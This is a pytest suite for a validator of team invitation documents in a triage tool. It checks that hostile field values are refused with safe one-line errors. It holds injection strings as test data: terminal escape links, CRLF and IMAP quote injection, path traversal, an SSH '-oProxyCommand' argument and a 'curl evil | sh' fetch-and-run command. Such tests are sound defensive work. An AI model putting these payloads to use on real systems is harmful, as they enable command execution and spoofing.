"""Tests the invitation's shape check: every field typed and bounded, hostile text refused with a one-line error
that names the field and never echoes the value."""

from __future__ import annotations

import copy
import json
from typing import Any

import pytest

from invitation_fixtures import EVENT, INVITER, KEY, valid_document
from triage_tui.team.invitation_document import (
    MAX_DOCUMENT_BYTES,
    MAX_ROSTER_EVENTS,
    Invitation,
    InvitationError,
    check,
    decode,
)


def _refusal(document: object) -> str:
    with pytest.raises(InvitationError) as refused:
        decode(json.dumps(document).encode())
    message = str(refused.value)
    assert "\n" not in message and "\x1b" not in message
    return message


def test_a_valid_document_reads_back_as_itself() -> None:
    invitation = check(valid_document())

    assert isinstance(invitation, Invitation)
    assert invitation.invitee.projects == ("pip", "zope.interface")
    assert json.loads(invitation.encode()) == valid_document()
    assert decode(invitation.encode()) == invitation
    # Canonical: sorted keys, no spaces, so the same invitation always has the same signed bytes.
    assert (
        invitation.encode()
        == json.dumps(valid_document(), sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()
    )


HOSTILE = "\x1b]8;;http://evil\x07click\x1b]8;;\x07"


@pytest.mark.parametrize(
    ("path", "value", "field"),
    [
        (("inviter", "name"), HOSTILE, "inviter.name"),
        (("inviter", "name"), "Bob\u202eevil", "inviter.name"),
        (("inviter", "name"), "Bob\nCoordinator", "inviter.name"),
        (("inviter", "name"), " Bob", "inviter.name"),
        (("inviter", "name"), "", "inviter.name"),
        (("inviter", "name"), "x" * 129, "inviter.name"),
        (("inviter", "name"), 7, "inviter.name"),
        (("inviter", "email"), "bob@example.org\r\nBcc: all@x.org", "inviter.email"),
        (("inviter", "email"), "not an address", "inviter.email"),
        (("inviter", "fingerprint"), "a" * 40, "inviter.fingerprint"),
        (("inviter", "fingerprint"), "A" * 39, "inviter.fingerprint"),
        (
            ("inviter", "key"),
            "-----BEGIN PGP PRIVATE KEY BLOCK-----\n-----END PGP PRIVATE KEY BLOCK-----",
            "inviter.key",
        ),
        (("inviter", "key"), KEY.replace("mDMEZ", "mDM\x1bEZ"), "inviter.key"),
        (("inviter", "key"), KEY + "x" * 70_000, "inviter.key"),
        (("team", "coordinators"), [], "team.coordinators"),
        (("team", "coordinators"), [INVITER, INVITER], "team.coordinators"),
        (("team", "coordinators"), "A" * 40, "team.coordinators"),
        (("team", "prefix"), "../../etc/", "team.prefix"),
        (("team", "prefix"), "Team", "team.prefix"),
        (("team", "server", "host"), "imap.example.org\nusername = root", "team.server.host"),
        (("team", "server", "host"), "-oProxyCommand=x", "team.server.host"),
        (("team", "server", "host"), "/tmp/socket", "team.server.host"),
        (("team", "server", "port"), "993", "team.server.port"),
        (("team", "server", "port"), True, "team.server.port"),
        (("team", "server", "port"), 70000, "team.server.port"),
        (("team", "server", "port"), 993.0, "team.server.port"),
        (("team", "server", "security"), "ssl", "team.server.security"),
        (("team", "server", "security"), "none", "team.server.security"),
        (("invitee", "role"), "admin", "invitee.role"),
        (("invitee", "role"), "coordinator", "invitee.projects"),
        (("invitee", "projects"), [], "invitee.projects"),
        (("invitee", "projects"), ["coordinators"], "invitee.projects"),
        (("invitee", "projects"), ["../uv"], "invitee.projects"),
        (("invitee", "projects"), ["Pip"], "invitee.projects"),
        (("invitee", "projects"), [["pip"]], "invitee.projects[0]"),
        (("invitee", "imap_user"), "anyone", "invitee.imap_user"),
        (("invitee", "imap_user"), "-zoe", "invitee.imap_user"),
        (("invitee", "imap_user"), 'zoe" password "x', "invitee.imap_user"),
        (("invitee", "imap_user"), None, "invitee.imap_user"),
        (("invitee", "fingerprint"), INVITER, "invitee.fingerprint"),
        (("roster",), [], "roster"),
        (("roster",), [EVENT, EVENT], "roster"),
        (("roster",), ["-----BEGIN PGP PUBLIC KEY BLOCK-----\n-----END PGP PUBLIC KEY BLOCK-----"], "roster[0]"),
        (("roster",), [EVENT.replace("owG", "ow\u202eG")], "roster[0]"),
        (("roster",), [EVENT + "A" * (256 * 1024)], "roster[0]"),
        (("roster",), {"0": EVENT}, "roster"),
    ],
)
def test_a_bad_field_is_named_and_its_value_never_shown(path: tuple[str, ...], value: object, field: str) -> None:
    document = valid_document()
    target: Any = document
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value

    message = _refusal(document)

    assert message.startswith(f"malformed field {field}")
    if isinstance(value, str) and value and not value.isalnum():
        assert value not in message


def test_a_loopback_server_may_go_without_tls() -> None:
    document = valid_document()
    document["team"]["server"] = {"host": "127.0.0.1", "port": 1143, "security": "none"}

    assert check(document).server.security == "none"


def test_a_coordinator_has_no_projects() -> None:
    document = valid_document()
    document["invitee"]["role"] = "coordinator"
    document["invitee"]["projects"] = []

    assert check(document).invitee.role == "coordinator"


@pytest.mark.parametrize(
    ("where", "key", "field"),
    [
        ((), "extra", "the invitation"),
        (("team", "server"), "password", "team.server"),
        (("team", "server"), "password_command", "team.server"),
        (("invitee",), "gnupg_home", "invitee"),
        (("team",), "sources", "team"),
    ],
)
def test_an_unexpected_key_is_refused(where: tuple[str, ...], key: str, field: str) -> None:
    document = valid_document()
    target: Any = document
    for part in where:
        target = target[part]
    target[key] = "sh -c 'curl evil | sh'"

    assert _refusal(document) == f"malformed field {field}: unexpected key {key!r}"


def test_an_unexpected_hostile_key_is_shown_neutralised_and_cut_short() -> None:
    document = valid_document()
    document["invitee"][HOSTILE * 10] = 1

    message = _refusal(document)

    assert message.startswith("malformed field invitee: unexpected key") and "\x1b" not in message
    assert len(message) < 120


@pytest.mark.parametrize("missing", ["inviter", "team", "invitee", "roster"])
def test_a_missing_part_is_named(missing: str) -> None:
    document = valid_document()
    del document[missing]

    assert _refusal(document) == f"malformed field {missing}: missing"


def test_documents_that_are_not_invitations_are_refused_in_one_line() -> None:
    for data, expected in [
        (b"[]", "not a triage-tui invitation"),
        (json.dumps({**valid_document(), "inviter": []}).encode(), "malformed field inviter: expected an object"),
        (b"\xff\xfe", "malformed invitation: not valid JSON"),
        (b'{"a": 1' + b"0" * 200 + b"}", "malformed invitation: a JSON number of"),
        (b'{"a": NaN}', "malformed invitation: not valid JSON"),
        (b"[" * 70 + b"]" * 70, "malformed invitation: JSON nested deeper than 64 levels"),
    ]:
        with pytest.raises(InvitationError) as refused:
            decode(data)
        assert str(refused.value).startswith(expected), data[:20]


def test_an_oversized_document_or_roster_is_refused() -> None:
    with pytest.raises(InvitationError, match=f"at most {MAX_DOCUMENT_BYTES}"):
        decode(b" " * (MAX_DOCUMENT_BYTES + 1))
    document = valid_document()
    document["roster"] = [EVENT.replace("owG", f"o{n}") for n in range(MAX_ROSTER_EVENTS + 1)]

    assert _refusal(document).startswith(f"malformed field roster: {MAX_ROSTER_EVENTS + 1} entries")


def test_the_check_does_not_change_what_it_is_given() -> None:
    document = valid_document()
    before = copy.deepcopy(document)

    check(document)

    assert document == before
